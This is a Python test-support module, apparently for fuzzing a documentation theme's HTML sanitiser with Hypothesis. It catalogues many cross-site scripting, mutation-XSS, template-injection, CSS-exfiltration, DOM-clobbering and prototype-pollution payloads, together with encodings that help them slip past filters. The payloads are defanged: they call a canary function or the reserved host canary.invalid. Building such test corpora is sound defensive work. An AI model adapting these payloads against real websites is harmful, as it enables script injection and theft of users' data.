"""What hostile strings look like: one table by kind, the shapes they come in, and how to draw one.

``§`` stands for the number of a payload. A payload that runs gives itself away: it calls
``__canary(number)``, asks ``canary.invalid`` for something, or computes ``number * 7919``.
"""

from __future__ import annotations

import base64
import html
import re
from typing import TYPE_CHECKING, NamedTuple
from urllib.parse import quote

from hypothesis import strategies as st

if TYPE_CHECKING:
    from collections.abc import Callable, Mapping

FACTOR = 7919
"""A template that is evaluated multiplies its number by this.

How a payload writes that is no JavaScript of literals and functions over them, since the value of
such is shown by design.
"""

IMAGE = "<img src=x onerror=__canary(§)>"
SCRIPT = "<script>__canary(§)</script>"

PAYLOADS: Mapping[str, tuple[str, ...]] = {
    "script element": (
        SCRIPT,
        "<ScRiPt\n>__canary(§)</sCrIpT\t>",
        "<script src=//canary.invalid/§.js></script>",
        f"</title>{SCRIPT}",
        f"</textarea>{SCRIPT}",
        f"-->{SCRIPT}<!--",
        f"]]>{SCRIPT}",
        "<script type=module>__canary(§)</script>",
    ),
    "double quotes": (
        '" autofocus tabindex=1 onfocus="__canary(§)" x="',
        '" onmouseover="__canary(§)" style="position:fixed;inset:0" x="',
        f'">{IMAGE}',
        '\\" onfocus=__canary(§) autofocus tabindex=1 x=\\"',
    ),
    "single quotes": (
        "' autofocus tabindex=1 onfocus='__canary(§)' x='",
        f"'>{IMAGE}",
        f"'/>{IMAGE}<x y='",
    ),
    "no quotes": (
        "x autofocus tabindex=1 onfocus=__canary(§) ",
        "x/onpointerover=__canary(§)/autofocus/tabindex=1/onfocus=__canary(§)//",
        f"x>{IMAGE}",
        "`onfocus=__canary(§) autofocus tabindex=1 x=`",
    ),
    "javascript URL": (
        "javascript:__canary(§)",
        "JaVaScRiPt:__canary(§)",
        "java\tscript:__canary(§)",
        "java\nscript:__canary(§)",
        "\x01\x1f javascript:__canary(§)",
        "javascript\r\n:__canary(§)",
        "&#106;avascript:__canary(§)",
        "javascript&colon;__canary(§)",
        "java&Tab;script&#58;__canary(§)",
        "javascript:%5f_canary(§)",
        "javascript://x%0a__canary(§)",
        "\u00a0javascript:__canary(§)",
        "%6aavascript:__canary(§)",
        "//x/../javascript:__canary(§)",
        "view-source:javascript:__canary(§)",
        "/javascript:__canary(§)//",
        "./javascript:__canary(§)",
    ),
    "data URL": (
        "data:text/html,<script>parent.__canary(§)</script>",
        "data:text/html;base64,⟦<script>parent.__canary(§)</script>⟧",
        "DATA:,<script>__canary(§)</script>",
        "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='__canary(§)'/>",
        "data:image/svg+xml;base64,"
        "⟦<svg xmlns='http://www.w3.org/2000/svg' onload='parent.__canary(§)'/>⟧",
        "data:application/xhtml+xml,<script xmlns='http://www.w3.org/1999/xhtml'>__canary(§)</script>",
        "blob:https://canary.invalid/§",
        "filesystem:https://canary.invalid/§",
    ),
    "vbscript URL": ("vbscript:__canary(§)", "vb\tscript:msgbox(§)", "mocha:__canary(§)", "livescript:[§]"),
    "SVG": (
        "<svg onload=__canary(§)>",
        "<svg/onload=__canary(§)//",
        f"<svg>{SCRIPT}</svg>",
        "<svg><animate onbegin=__canary(§) attributeName=x dur=1s /></svg>",
        "<svg><a xlink:href='javascript:__canary(§)'><text x=20 y=20>x</text></a></svg>",
        "<svg><a><set attributeName=href to=javascript:__canary(§) /><text x=20 y=20>x</text></a></svg>",
        "<svg><use href='data:image/svg+xml,<svg id=x onload=__canary(§)>#x'/></svg>",
        "<svg><foreignObject><img src=x onerror=__canary(§)></foreignObject></svg>",
        "<svg><image href='https://canary.invalid/§.svg' onerror='__canary(§)'/></svg>",
        "<svg><style>*{background:url(//canary.invalid/§)}</style></svg>",
    ),
    "srcdoc": (
        "<iframe srcdoc='<script>parent.__canary(§)</script>'></iframe>",
        '<iframe srcdoc="&lt;img src=x onerror=parent.__canary(§)&gt;"></iframe>',
        "<iframe src='javascript:parent.__canary(§)'></iframe>",
        "<iframe onload=__canary(§)></iframe>",
        "<object data='data:text/html,<script>parent.__canary(§)</script>'></object>",
        "<embed src='javascript:__canary(§)'>",
        "<portal src='javascript:__canary(§)'></portal>",
        "<fencedframe src='https://canary.invalid/§'></fencedframe>",
    ),
    "meta": (
        '<meta http-equiv="refresh" content="0;url=https://canary.invalid/§">',
        "<meta http-equiv=refresh content='0;url=javascript:__canary(§)'>",
        "0;url=https://canary.invalid/§",
        "0; url=javascript:__canary(§)",
        "<meta name=referrer content=unsafe-url><link rel=stylesheet href=//canary.invalid/§.css>",
        "<link rel=import href=https://canary.invalid/§>",
        "<link rel=prefetch href=https://canary.invalid/§><link rel=preload as=script href=//canary.invalid/§>",
    ),
    "base": (
        "<base href='https://canary.invalid/§/'>",
        '"><base href=//canary.invalid/§/><x y="',
        "</head><base target=_top href='javascript:__canary(§)//'>",
    ),
    "style": (
        "x;background:url(https://canary.invalid/§)",
        "red}body{background:url(//canary.invalid/§)}",
        "#fff;background-image:url('https://canary.invalid/§')",
        "</style><img src=x onerror=__canary(§)>",
        "@import url(https://canary.invalid/§.css);",
        "<style>@import 'https://canary.invalid/§.css';</style>",
        "width:expression(__canary(§))",
        "background:u\\72l(https://canary.invalid/§)",
        "x:image-set('https://canary.invalid/§' 1x)",
        "background:url(/*)*/https://canary.invalid/§)",
        "*/}*{background:image(url(//canary.invalid/§))}/*",
        "<link rel=stylesheet href=https://canary.invalid/§.css>",
        "x\n}\n@font-face{font-family:x;src:url(//canary.invalid/§)}\nbody{font-family:x",
    ),
    "form": (
        "<form action='https://canary.invalid/§'><input autofocus onfocus=__canary(§)></form>",
        "<button formaction='javascript:__canary(§)'>x</button>",
        "<input type=image src=x onerror=__canary(§)>",
        "<form id=f></form><button form=f formaction=javascript:__canary(§)>x</button>",
        "<select autofocus onfocus=__canary(§)>",
        "<keygen autofocus onfocus=__canary(§)><textarea autofocus onfocus=__canary(§)>",
        "<isindex action=javascript:__canary(§) type=image>",
    ),
    "template": (
        "{{ [§]|sum*7919 }}",
        "{% set x = [§]|sum*7919 %}{{ x }}",
        "{%raw%}{{ ''.__class__.__mro__ }}{%endraw%}{{[§]|sum*7919}}",
        "${[§*7919][0]|0}",
        "#{[§*7919][0].to_i}",
        "<%= §*7919 %>",
        "{eval('§*7919')}",
        "{Function('return §*7919')()}",
        "{(() => 1).constructor('return §*7919')()}",
        "{[].map.constructor.constructor('return §*7919')()}",
        "{((a) => a.constructor.constructor('return §*7919')())('')}",
        "{globalThis.__canary(§)}",
        "{{ pathto('§', 1) }}{{ [§]|sum*7919|safe }}",
        "%(§)s %s {0} {§} {reason}",
        "{import('//canary.invalid/§.js')}",
    ),
    "JavaScript string": (
        "</script><script>__canary(§)</script>",
        "</SCRIPT ><img src=x onerror=__canary(§)>",
        "';__canary(§);'",
        '";__canary(§);"',
        "\\';__canary(§)//",
        '\\";__canary(§)//',
        "\u2028__canary(§)//",
        "\u2029__canary(§);",
        "${__canary(§)}",
        "*/__canary(§)/*",
        "'-__canary(§)-'",
        '"-__canary(§)-"',
        ")});__canary(§);//",
        "\\u0022;__canary(§)//",
    ),
    "JSON": (
        '{"a":"</script><script>__canary(§)</script>"}',
        '<!--<script>{"a":"__canary(§)"}',
        '","constructor":"__canary(§)","x":"',
        '"}]}</script><img src=x onerror=__canary(§)>',
        "\\u003cimg src=x onerror=__canary(§)\\u003e",
        "]]>-->\"><svg onload=__canary(§)>",
    ),
    "attribute name": (
        "aria-x><img src=x onerror=__canary(§)>",
        "data-x onfocus=__canary(§) autofocus tabindex=1 y",
        "data-x/onfocus",
        "onfocus",
        "ONFOCUS",
        "on\u017fubmit",
        "data-docsjson-stars",
        "data-docsjson-template",
        "xlink:href",
        "x='><script>__canary(§)</script>",
        "style",
        "formaction",
        "srcdoc",
        "is",
        "slot",
        "__proto__",
    ),
    "DOM clobbering": (
        "docsjson-search",
        "docsjson-search-results",
        "docsjson-main",
        "<img name=getElementById id=x§>",
        "<a id=docsjson-search href=javascript:__canary(§)>",
        "<form name=forms><input name=attributes><input name=documentElement></form>",
        "<img name=currentScript src=//canary.invalid/§.js>",
        "<a id=Search><a id=Search name=setIndex href=javascript:__canary(§)>",
        "<iframe name=documentation_options srcdoc=x></iframe>",
        "__canary",
        "documentElement",
        "querySelector",
        "location",
    ),
    "Markdown link": (
        "[x](javascript:__canary(§))",
        "[x](<java\tscript:__canary(§)>)",
        "[x](https://canary.invalid/§ \"x' onmouseover='__canary(§)\")",
        '![x](x "\\" onerror=__canary(§) ")',
        '![x\\" onerror=__canary(§) x=\\"](x)',
        "<javascript:__canary(§)>",
        "[x]: javascript:__canary(§)\n\n[x]",
        "[x](&#x6A;avascript&colon;__canary(§))",
        "[x](\\javascript:__canary(§))",
        '[x](x){onclick="__canary(§)" href="javascript:__canary(§)"}',
        "[`<img src=x onerror=__canary(§)>`](data:text/html,<script>__canary(§)</script>)",
        "`x _`_ `x <javascript:__canary(§)>`__",
        "<https://x\"onfocus=__canary(§)autofocus>",
        "https://x.example/\"onmouseover=__canary(§)//",
    ),
    "entities": (
        "&lt;img src=x onerror=__canary(§)&gt;",
        "&amp;lt;img src=x onerror=__canary(§)&amp;gt;",
        "&#x3c;script&#x3e;__canary(§)&#60;/script>",
        "&quot; onfocus=__canary(§) autofocus tabindex=1 x=&quot;",
        "&#34;&#62;&#60;img src=x onerror=__canary(§)&#62;",
        "&lt&semi;svg onload=__canary(§)&gt&semi;",
        "%3Cimg%20src=x%20onerror=__canary(§)%3E",
        "&NewLine;&quot;&gt;&lt;img src=x onerror=__canary(§)&gt;",
    ),
    "code fence": (
        "```<img src=x onerror=__canary(§)>\nx\n```",
        '```js title="\\"><img src=x onerror=__canary(§)>" {1}\nx\n```',
        "```{raw} html\n<script>__canary(§)</script>\n```",
        "````{eval-rst}\n.. raw:: html\n\n   <script>__canary(§)</script>\n````",
        "js\"><img src=x onerror=__canary(§)>",
        "```mermaid\ngraph TD; A[<img src=x onerror=__canary(§)>]\nclick A \"javascript:__canary(§)\"\n```",
        "```diff-<svg/onload=__canary(§)>\n+ x\n```",
    ),
    "prototype": (
        "__proto__",
        "constructor",
        '{"__proto__": {"canary": §}}',
        "__proto__[canary]=§",
        "constructor.prototype.canary",
        "toString",
        "hasOwnProperty",
        "__defineGetter__",
    ),
    "mutation": (
        '<noscript><p title="</noscript><img src=x onerror=__canary(§)>">',
        "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=__canary(§)&gt;\">",
        '<svg></p><style><a id="</style><img src=1 onerror=__canary(§)>">',
        "<svg><title><style><img title='</style><img src=x onerror=__canary(§)>'>",
        "<select><iframe><style></select><img src=x onerror=__canary(§)></style></iframe>",
        "<template><s><template><s><img src=x onerror=__canary(§)></s></template>",
        "<xmp><p title=\"</xmp><svg/onload=__canary(§)>\">",
        "<noembed><noframes></noembed><img src=x onerror=__canary(§)>",
        "<table><td><plaintext><img src=x onerror=__canary(§)>",
        "<math><annotation-xml encoding='text/html'><img src=x onerror=__canary(§)></annotation-xml></math>",
        "<p id='</title><img src=x onerror=__canary(§)>'><title>",
        "<form><math><mtext></form><form><mglyph><style></math><img src onerror=__canary(§)>",
        "<a href=`x\"<img src=x onerror=__canary(§)>`>",
        "<![CDATA[><img src=x onerror=__canary(§)>]]>",
        "<?xml-stylesheet href='javascript:__canary(§)'?><!DOCTYPE x [<!ENTITY y '<script>__canary(§)</script>'>]>&y;",
        "<!--><img src=x onerror=__canary(§)>-->",
        "<!-- --!><img src=x onerror=__canary(§)> -->",
    ),
    "docutils markup": (
        "{raw}`<script>__canary(§)</script>`",
        ".. raw:: html\n\n   <script>__canary(§)</script>",
        ":raw-html:`<script>__canary(§)</script>`",
        ".. role:: h(raw)\n   :format: html\n\n:h:`<script>__canary(§)</script>`",
        "{math}`\\text{<img src=x onerror=__canary(§)>}`",
        "$\\href{javascript:__canary(§)}{x}$",
        "|x| \n\n.. |x| raw:: html\n\n   <script>__canary(§)</script>",
        ".. meta::\n   :http-equiv=refresh: 0;url=https://canary.invalid/§",
        ".. image:: x.png\n   :target: javascript:__canary(§)",
        ".. _x: javascript:__canary(§)\n\nx_",
        ":sub:`x` :html:`<script>__canary(§)</script>` :abbr:`x (\"><img src=x onerror=__canary(§)>)`",
        ".. only:: html\n\n   .. container:: \"><img src=x onerror=__canary(§)>\n\n      x",
        "{download}`x <javascript:__canary(§)>` {doc}`x <\"><img src=x onerror=__canary(§)>>`",
    ),
    "odd characters": (
        "<scr\x00ipt>__canary(§)</scr\x00ipt>",
        "\uff1cimg src=x onerror=__canary(§)\uff1e",
        "\ufeff<img src=x onerror=__canary(§)>",
        "\u202e<img src=x onerror=__canary(§)>",
        "<img\x0csrc=x\x0bonerror=__canary(§)>",
        "<\u0130mg src=x onerror=__canary(§)>",
        "\x1b]8;;javascript:__canary(§)\x07x",
        "\x1b[31m<img src=x onerror=__canary(§)>",
        "<img src=x onerror=\u0085__canary(§)>",
        "\u2028<img src=x onerror=__canary(§)>\u2029",
        "\x80\x9f\ufffe<svg onload=__canary(§)>",
    ),
    "foreign host": (
        "//canary.invalid/§.js",
        "\\\\canary.invalid\\§.js",
        "/\\canary.invalid/§.js",
        "https:canary.invalid/§.js",
        "https://canary.invalid\\@x/§",
        "///canary.invalid/§.css",
        "http://[::1]/§",
        "/\t/canary.invalid/§",
    ),
    "path": (
        "../../§.html",
        "_static/docsjson-theme.js?§",
        "/_static/documentation_options.js#§",
        "searchindex.js/../§",
        "%2e%2e%2f§<img src=x onerror=__canary(§)>",
        "/§\"onfocus=__canary(§) autofocus tabindex=1 \"",
        "C:\\§",
        "x.svg#\"><img src=x onerror=__canary(§)>",
        "x?a=\"><script>__canary(§)</script>",
    ),
}  # fmt: skip
"""Every kind of payload, with the strings that stand for it."""

SHAPES: Mapping[str, Callable[[str], str]] = {
    "as it is": lambda text: text,
    "behind text": lambda text: f"Some text {text}",
    "before text": lambda text: f"{text} some text",
    "in capitals": lambda text: text.upper().replace("__CANARY", "__canary"),
    "twice": lambda text: text + text,
    "as entities": lambda text: html.escape(text),
    "as entities of entities": lambda text: html.escape(html.escape(text)),
    "percent-encoded": lambda text: quote(text, safe="§"),
    "with NUL": lambda text: f"{text[:2]}\x00{text[2:]}",
    "after a line break": lambda text: f"x\n{text}",
    "after a blank line": lambda text: f"x\n\n{text}",
    "in emphasis": lambda text: f"**{text}**",
    "in code": lambda text: f"`{text}`",
    "in a link": lambda text: f"[{text}]({text})",
    "in a path": lambda text: f"/guide/{text}",
    "in a URL": lambda text: f"https://host.example/{text}",
    "in a host": lambda text: f"https://{text}",
    "in a fragment": lambda text: f"index#{text}",
    "in an endpoint": lambda text: f"GET /{text}",
    "in a colour": lambda text: f"#0d9373{text}",
    "in a picture": lambda text: f"{text}.png",
    "in braces": lambda text: f"{{{text}}}",
    "after a quote and a bracket": lambda text: f"\"'>)]}}{text}",
    "backslashes before signs": lambda text: re.sub(r"([<>\"'&])", r"\\\1", text),
}
"""The shapes that payloads come in, so that they pass for what a place asks for."""


class Payload(NamedTuple):
    """A hostile string."""

    kind: str
    text: str
    """It holds ``§`` where its number comes."""
    shape: str = "as it is"

    def numbered(self, number: int) -> str:
        """Return the string with its number."""
        text = SHAPES[self.shape](self.text).replace("§", str(number))
        return re.sub(r"⟦(.*?)⟧", lambda m: base64.b64encode(m[1].encode()).decode(), text)


MOST = max(map(len, PAYLOADS.values()))
EVERY = tuple(
    Payload(kind, texts[at % len(texts)]) for kind, texts in PAYLOADS.items() for at in range(MOST)
)
"""Every payload, and every kind as often as another."""


def payloads() -> st.SearchStrategy[Payload]:
    """Draw a payload, most of them in their plain shape."""
    shapes = (*["as it is"] * len(SHAPES), *SHAPES)
    return st.builds(Payload._replace, st.sampled_from(EVERY), shape=st.sampled_from(shapes))
